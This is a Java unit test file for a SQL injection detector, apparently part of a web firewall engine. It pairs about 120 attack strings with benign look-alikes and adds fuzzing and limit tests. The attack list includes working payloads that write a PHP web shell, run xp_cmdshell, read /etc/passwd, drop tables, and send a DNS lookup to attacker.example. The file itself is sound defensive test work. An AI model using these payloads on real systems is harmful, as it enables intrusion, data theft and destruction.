package ai.traceable.tme.engine.detect.sqli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ai.traceable.tme.engine.detect.AttackClass;
import ai.traceable.tme.engine.detect.DetectionRule;
import ai.traceable.tme.engine.detect.Severity;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class SqliDetectorTest {
  private static final int BLOCK = 5;
  private static final SqliDetector DETECTOR = new SqliDetector();

  /** Rule id to snippet, for every rule the detector reported. */
  private static Map<String, String> hits(String value) {
    Map<String, String> out = new LinkedHashMap<>();
    DETECTOR.inspect(value, (rule, snippet) -> out.put(rule.id(), snippet));
    return out;
  }

  /** The anomaly score at a paranoia level, as the engine would add it up. */
  private static int score(String value, int paranoia) {
    int[] score = {0};
    DETECTOR.inspect(
        value,
        (rule, snippet) -> {
          if (rule.paranoia() <= paranoia) {
            score[0] += rule.severity().score();
          }
        });
    return score[0];
  }

  static Stream<String> attacks() {
    return Stream.of(
        // classic tautologies, all quoting styles
        "1' OR '1'='1",
        "' OR 1=1--",
        "' or ''='",
        "\" or \"\"=\"",
        "admin' or '1'='1'/*",
        "admin') or ('1'='1'--",
        "admin\")) or ((\"1\"=\"1",
        "x'OR'1'='1",
        "1 OR 1=1",
        "1' oR 'a'='a",
        "12345' OR 'x'='x",
        "acme' OR '1'='1",
        "admin' or 1 like 1",
        "' || '1'='1",
        "1' && '1'='1",
        "' OR TRUE--",
        "1 OR NOT FALSE",
        "' or 1 in (1)--",
        "' or 1 between 0 and 2--",
        "' OR username IS NOT NULL OR username = '",
        "x' AND email IS NULL; --",
        "3) OR (1=1",
        "')) or (('1'='1",
        "1 or (1)=(1)",
        "%' OR 1=1#",
        "0x61646d696e' OR 1=1#",
        "1' AND username=0x61646d696e-- -",
        "' OR name=CHAR(97,100,109)#",
        // blind boolean
        "1 AND 5524=5524",
        "1' AND 3421=8564-- -",
        "1) AND 3421=3421 AND (7890=7890",
        "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "1 AND LENGTH(database())=8",
        "' AND EXISTS(SELECT * FROM users)--",
        "1' AND (SELECT COUNT(*) FROM sysobjects)>0--",
        "' || (SELECT 'a' FROM dual) || '",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        // union based
        "1 UNION SELECT username,password FROM users--",
        "' UNION ALL SELECT NULL,NULL,NULL,table_name FROM information_schema.tables-- -",
        "-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -",
        "1 union select char(117,115,101,114),0x61646d696e",
        "1 and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables",
        "1 UnIoN SeLeCt 1,2,3 -- ",
        "1 UNION(SELECT 1,2)",
        "1 UNION DISTINCT SELECT 1,2",
        "1.0union select 1,2",
        "' UNION SELECT banner,NULL FROM v$version--",
        "' UNION SELECT sql FROM sqlite_master--",
        "') UNION SELECT password FROM users--",
        "https://shop.example.com/search?q=1' UNION SELECT 1,2--",
        // comment and whitespace evasions
        "1 UN/**/ION SEL/**/ECT 1,2,3--",
        "-1 /*!50000union*/ /*!50000select*/ 1,@@version,3",
        "1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL",
        "admin'/**/or/**/1=1#",
        "1'/**/aNd/**/0x31=0x31/**/--",
        "1\tor\t1=1",
        "2\nunion\nselect\nuser(),2",
        "1\u000bUNION\u000bSELECT 1,2",
        "1\ufffdunion\ufffdselect\ufffdpassword\ufffdfrom\ufffdusers",
        // comment break-outs
        "admin'--",
        "admin' --",
        "admin'#",
        "admin'-- -",
        "') /*",
        "admin\")--",
        // stacked queries
        "1; DROP TABLE users--",
        "1);INSERT INTO admins(user,pass) VALUES('x','y')--",
        "id;DROP TABLE reports--",
        "1'; UPDATE users SET password='x' WHERE username='admin'--",
        "1'; DELETE FROM users--",
        "1'; TRUNCATE TABLE logs--",
        "'; DECLARE @q VARCHAR(99);SET @q='x'; EXEC master.dbo.xp_dirtree @q;--",
        "1'; SHUTDOWN WITH NOWAIT;--",
        "1;SELECT pg_sleep(5)",
        "'; EXECUTE IMMEDIATE 'DROP TABLE x'--",
        // time based
        "1 AND SLEEP(5)",
        "1' AND SLEEP(5) AND 'kTqP'='kTqP",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "1' AND BENCHMARK(5000000,MD5(1))#",
        "1'; WAITFOR DELAY '0:0:5'--",
        "'; WAITFOR TIME '23:59:59'--",
        "1'||pg_sleep(5)--",
        "1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1",
        "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
        "price, (CASE WHEN (SELECT 1)=1 THEN SLEEP(5) ELSE 1 END)",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "Mozilla/5.0 (X11; Linux x86_64) ' OR SLEEP(5) OR '",
        // error based
        "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
        "1 AND updatexml(1,concat(0x7e,user()),1)",
        "1 AND 1=CONVERT(int,@@version)",
        "a@b.co' AND 1=CONVERT(int,(SELECT @@version))--",
        "1 AND 1=CAST((SELECT current_user) AS int)",
        "' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1))--",
        "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
        "1 AND EXP(~(SELECT * FROM (SELECT USER())a))",
        "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT version()),0x7e),1)",
        // file and command access
        "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/sh.php'-- ",
        "' UNION SELECT 1 INTO DUMPFILE '/tmp/x'--",
        "'; EXEC xp_cmdshell('whoami')--",
        "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "'; COPY (SELECT '') TO PROGRAM 'nslookup attacker.example'--",
        "' UNION SELECT pg_read_file('/etc/passwd')--",
        // constant conditions in sort parameters
        "(CASE WHEN 1=1 THEN name ELSE price END)",
        "IF(1=1,name,price)",
        "' or '1",
        "1 and user_name() = 'dbo'",
        "1 AND @@version LIKE '%Ubuntu%'",
        "'; exec('sel'+'ect 1')--",
        "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"*/",
        "\\' OR 1=1--",
        // column probing
        "1 ORDER BY 10--",
        "1' ORDER BY 3#",
        "' HAVING 1=1--",
        "' GROUP BY columnnames having 1=1 --",
        // values as they arrive in other places
        "{ user(id: \"1' OR 1=1--\") { id name email } }",
        "<user><id>1' UNION SELECT password FROM users WHERE '1'='1</id></user>",
        "UTC' AND (SELECT 5521 FROM (SELECT(SLEEP(5)))x)-- x");
  }

  static Stream<String> benign() {
    return Stream.of(
        // names and apostrophes
        "O'Brien",
        "D'Angelo",
        "Shaquille O'Neal",
        "Jean-Luc D'Artagnan-O'Neil",
        "L'Oréal Paris",
        "mary.o'brien@example.ie",
        "O'Reilly & Associates",
        "Máire O'Reilly",
        // prose with SQL words
        "select the best option from our union of partners",
        "drop me a line",
        "delete my account please",
        "Delete my account please, and drop any data you have. Where do I select that option?",
        "1=1 is always true in math class",
        "1=1 is always true in math class, but 1=2 is not.",
        "Order by date",
        "order by price or rating?",
        "Tom & Jerry",
        "rock 'n' roll",
        "it's 5 o'clock",
        "It's 5 o'clock somewhere; isn't it?",
        "Don't select this; or that",
        "Union Pacific vs. BNSF: which railroad to select?",
        "Drop Table Tennis Club",
        "TODO: update the table of contents; insert new chapter 'From Zero to One' before chapter 3",
        "And 1 or 2 of them were late -- not great.",
        "It's the best pizza I've had; the owner's 'secret sauce' is amazing -- 10/10",
        "Which is better: SELECT or INSERT fishing lures?",
        "I'd say 2 or 3 items; not more",
        "Choose A and (select one from the list)",
        "Select all that apply (one or more)",
        "union station chicago parking",
        "SQL Developer",
        "Bobby Tables",
        "true or false",
        "yes or no",
        "What's the or operator in excel",
        "Work, eat and sleep (8)",
        "I need more sleep (8 hours)",
        "The benchmark (2024) results",
        "He said 'drop it' and left",
        "She said \"delete it\" or 'keep it'",
        "Chris' -- not John's",
        "Mom's -- the best!",
        "Please select the best option from our union of partners and drop me a line by Friday.",
        // passwords, tokens and ids
        "p@ss'w0rd\"",
        "P@$$w0rd!<>'\";--",
        "Tr0ub4dor&3",
        "C0rrect-Horse!Battery#Staple",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.abc",
        "7c9e6679-7425-40de-944b-e07fc1f90ae7",
        "0x61646d696e",
        "def50200a1b2c3d4e5f6a7b8c9d0e1f2",
        // numbers, dates, phones, money
        "2024-05-01T10:15:30+02:00",
        "(555) 123-4567",
        "+1 (415) 555-0199 ext. 42",
        "-122.4194",
        "$1,250.00",
        "10--20 people",
        "5 < 10 > 3",
        "(2+3)*4",
        "x<5 and y>3",
        "rating >= 4 and price <= 100",
        "Server room temps: rack 1=22°C, rack 2=24°C",
        // search strings and DSLs
        "\"new york\" hotels -airbnb",
        "\"select the best\" coffee grinder",
        "shirt -red +blue \"cotton\" size:(M OR L)",
        "status:active AND owner:me",
        "\"where\" vs \"were\" grammar",
        "c# vs java performance",
        "50% off",
        "a;b;c",
        "red|green|blue",
        "include=a;b;c",
        "1=1 meaning",
        // markup, code and config
        "<p>It's a \"great\" day</p>",
        "color: #fff; background: url('img.png');",
        "@media (max-width: 600px) { .nav { display: none; } }",
        "**bold** and _italic_ -- see [docs](https://x.y/z?a=1&b=2)",
        "| Name | Score |\n|------|-------|\n| Bob  | 10    |",
        "=IF(A1>0; \"yes\"; \"no\")",
        "if a > b then max = a; else max = b",
        "x == 1 && y == 2",
        "total = sum(prices) + len(items)",
        "and len(obj) > max_string",
        "Run configure without \"--enable-gss\".",
        "gitweb: '--cc' for merges in 'commitdiff' view",
        "SELECT * FROM users WHERE id = ?",
        "String sql = \"SELECT id, name FROM products WHERE category = ? ORDER BY name\";",
        "df = pd.read_sql('SELECT * FROM sales WHERE year = 2024', conn)",
        "CREATE INDEX idx ON orders (customer_id);\nALTER TABLE orders ADD COLUMN note text;",
        "{\"a\": null, \"b\": true, \"or\": 1}",
        "{\"$or\": [{\"a\": 1}, {\"b\": 2}]}",
        "https://example.com/search?q=union+select&page=2",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "session=9a8b7c6d5e4f; _ga=GA1.1.1234567890.1714567890",
        "I'm 5'11\" tall",
        "6' 2\" and 180 lbs",
        "12\" or 14\"",
        "the '80s or '90s",
        "'80 or '90",
        "\"harry potter\" or \"lord of the rings\"",
        "in case when it rains then we stay home",
        "=IF(A1=B1, \"same\", \"different\")");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void attacksAreBlockedAtParanoiaOne(String attack) {
    assertThat(score(attack, 1)).as("%s -> %s", attack, hits(attack)).isGreaterThanOrEqualTo(BLOCK);
  }

  @ParameterizedTest
  @MethodSource("benign")
  void benignValuesPassAtParanoiaOne(String value) {
    assertThat(score(value, 1)).as("%s -> %s", value, hits(value)).isLessThan(BLOCK);
  }

  @Test
  void caseListsAreLargeEnough() {
    assertThat(attacks().count()).isGreaterThanOrEqualTo(80);
    assertThat(benign().count()).isGreaterThanOrEqualTo(80);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "1 UNION SELECT 1,2--|sqli-100",
        "1 AND (SELECT 1 FROM users)|sqli-101",
        "1' OR '1'='1|sqli-110",
        "(CASE WHEN 1=1 THEN 1 ELSE 0 END)|sqli-112",
        "name=x' and 1=1 and 'a'='a|sqli-111",
        "1; DROP TABLE users|sqli-120",
        "admin'--|sqli-130",
        "Chris' -- not John's|sqli-131",
        "1 AND SLEEP(5)|sqli-140",
        "1 AND extractvalue(1,concat(0x7e,version()))|sqli-141",
        "1 INTO OUTFILE '/tmp/x'|sqli-150",
        "1 ORDER BY 3--|sqli-160",
        "1 ORDER BY 3|sqli-161",
        "1 union select char(97,100,109)|sqli-170",
        "1 UNION SELECT 1 FROM information_schema.tables|sqli-180",
        "SELECT * FROM users WHERE id = ?|sqli-190",
        "CREATE INDEX i ON t (c);\\nDROP TABLE t|sqli-191",
        "x' or username like y|sqli-192",
        "we sleep(8) hours|sqli-193",
        "1 --|sqli-194"
      })
  void eachFamilyReportsItsRule(String value, String ruleId) {
    assertThat(hits(value.replace("\\n", "\n"))).containsKey(ruleId);
  }

  @Test
  void documentationSqlIsFlaggedOnlyAtParanoiaTwo() {
    String doc = "SELECT id, name FROM products WHERE category = ? ORDER BY name";
    assertThat(score(doc, 1)).isZero();
    assertThat(score(doc, 2)).isGreaterThan(0);
  }

  @Test
  void snippetPointsAtTheMatch() {
    String value = "x".repeat(100) + " 1 UNION SELECT 1,2";
    String snippet = hits(value).get("sqli-100");
    assertThat(snippet).contains("UNION SELECT").hasSizeLessThanOrEqualTo(64);
  }

  @Test
  void inspectsTheDecodedFormOfAnInspectedValue() {
    List<String> ids = new ArrayList<>();
    Inspected value =
        new Inspected(Placement.QUERY, "id", "1%27%20OR%20%271%27%3D%271", "1' OR '1'='1");
    DETECTOR.inspect(value, (rule, snippet) -> ids.add(rule.id()));
    assertThat(ids).contains("sqli-110");
    assertThat(DETECTOR.attackClass()).isEqualTo(AttackClass.SQLI);
  }

  @Test
  void paranoiaBoundsWhatIsReported() {
    SqliDetector strict = new SqliDetector(1, 64);
    List<DetectionRule> reported = new ArrayList<>();
    strict.inspect("SELECT * FROM users WHERE id = ?", (rule, snippet) -> reported.add(rule));
    assertThat(reported).isEmpty();
    strict.inspect("1 UNION SELECT 1,2", (rule, snippet) -> reported.add(rule));
    assertThat(reported).extracting(DetectionRule::id).containsExactly("sqli-100");
  }

  @Test
  void ruleIdsAreUniqueAndWellFormed() {
    Set<String> ids = new HashSet<>();
    for (DetectionRule rule : DETECTOR.rules()) {
      assertThat(rule.id()).matches("sqli-\\d{3}");
      assertThat(ids.add(rule.id())).as("duplicate %s", rule.id()).isTrue();
      assertThat(rule.attackClass()).isEqualTo(AttackClass.SQLI);
      assertThat(rule.description()).isNotBlank();
      if (rule.paranoia() == 1 && rule.severity() == Severity.NOTICE) {
        throw new AssertionError("notice rules belong to higher paranoia: " + rule.id());
      }
    }
    assertThat(ids).hasSizeLessThanOrEqualTo(64);
  }

  @Test
  void fuzzedAndMutatedInputsNeverThrowAndOnlyReportDeclaredRules() {
    Random random = new Random(20240501L);
    Set<DetectionRule> declared = new HashSet<>(DETECTOR.rules());
    List<String> seeds = attacks().toList();
    String alphabet = "'\"`;()=-#/*|&<>@!~:.,+ \t\n0123456789xabORANDunionSELECTsleep\u00a0\ufffd";
    for (int iteration = 0; iteration < 20_000; iteration++) {
      String value =
          iteration % 2 == 0
              ? randomString(random, alphabet)
              : mutate(random, seeds.get(random.nextInt(seeds.size())), alphabet);
      assertThatCode(
              () ->
                  DETECTOR.inspect(
                      value,
                      (rule, snippet) -> {
                        assertThat(declared).contains(rule);
                        assertThat(snippet.length()).isLessThanOrEqualTo(64);
                      }))
          .as(value)
          .doesNotThrowAnyException();
    }
  }

  @Test
  void megabyteValuesAreBoundedByTheTokenLimit() {
    for (String unit : new String[] {"'", "(", "/*", "\"", "' OR ", "/*!", "-- \n", "1=1 OR "}) {
      String value = unit.repeat(1_000_000 / unit.length());
      assertThatCode(() -> DETECTOR.inspect(value, (rule, snippet) -> {}))
          .as(unit)
          .doesNotThrowAnyException();
      for (SqlTokenizer.Context context : SqlTokenizer.Context.values()) {
        SqlTokens tokens = SqlTokenizer.tokenize(value, context, SqlTokenizer.DEFAULT_MAX_TOKENS);
        assertThat(tokens.size()).isLessThanOrEqualTo(SqlTokenizer.DEFAULT_MAX_TOKENS);
      }
    }
  }

  @Test
  void valuesWithoutSqlPunctuationOrTriggerWordsAreSkipped() {
    assertThat(SqliDetector.Precheck.scan("hello world 2024")).isZero();
    assertThat(SqliDetector.Precheck.scan("2024-05-01")).isZero();
    assertThat(SqliDetector.Precheck.scan("1 union select 2")).isNotZero();
    assertThat(SqliDetector.Precheck.scan("O'Brien") & SqliDetector.Precheck.SINGLE).isNotZero();
  }

  @Test
  void blockCommentsAreStrippedForTheSecondVariant() {
    assertThat(SqliDetector.stripBlockComments("UN/**/ION SEL/*x*/ECT")).isEqualTo("UNION SELECT");
    assertThat(SqliDetector.stripBlockComments("/*!50000union*/ a")).isEqualTo("union a");
    assertThat(SqliDetector.stripBlockComments("a /* open")).isEqualTo("a ");
  }

  private static String randomString(Random random, String alphabet) {
    int length = random.nextInt(80);
    StringBuilder b = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      b.append(
          random.nextInt(16) == 0
              ? (char) random.nextInt(0x10000)
              : alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return b.toString();
  }

  private static String mutate(Random random, String seed, String alphabet) {
    StringBuilder b = new StringBuilder(seed);
    int edits = 1 + random.nextInt(4);
    for (int e = 0; e < edits && b.length() > 0; e++) {
      int at = random.nextInt(b.length());
      switch (random.nextInt(3)) {
        case 0 -> b.deleteCharAt(at);
        case 1 -> b.insert(at, alphabet.charAt(random.nextInt(alphabet.length())));
        default -> b.setCharAt(at, alphabet.charAt(random.nextInt(alphabet.length())));
      }
    }
    return b.toString();
  }
}
